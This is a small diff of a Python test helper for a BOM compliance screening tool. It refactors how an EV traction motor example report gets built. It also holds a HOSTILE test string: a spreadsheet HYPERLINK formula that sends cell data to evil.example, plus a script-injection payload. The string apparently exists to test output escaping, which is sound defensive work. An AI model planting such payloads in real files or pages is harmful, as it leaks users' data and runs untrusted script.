@@ -21,9 +21,9 @@ STAMP = dt.datetime(2026, 1, 1, 12, 0, tzinfo=dt.timezone.utc)
 
 def example_report(as_of: str = "2026-01-01", fail_on: str = "high") -> Report:
     """The EV traction motor BOM screened in-process (paths relative, as a CI run gives them)."""
-    rules = load_rules()
-    result = screen_bom(EXAMPLE, rules, dt.date.fromisoformat(as_of), Scenario.AS_WRITTEN, display_name="examples/ev-traction-motor.csv")
-    return build_report(result, rules, as_of=dt.date.fromisoformat(as_of), scenario="as-written", fail_on=fail_on, generated_at=STAMP)
+    result = screen_bom(EXAMPLE, rules=load_rules(), as_of=dt.date.fromisoformat(as_of), scenario=Scenario.AS_WRITTEN,
+                        display_name="examples/ev-traction-motor.csv")
+    return build_report(result, fail_on=fail_on, generated_at=STAMP)
 
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click") | <script>alert(1)</script>'
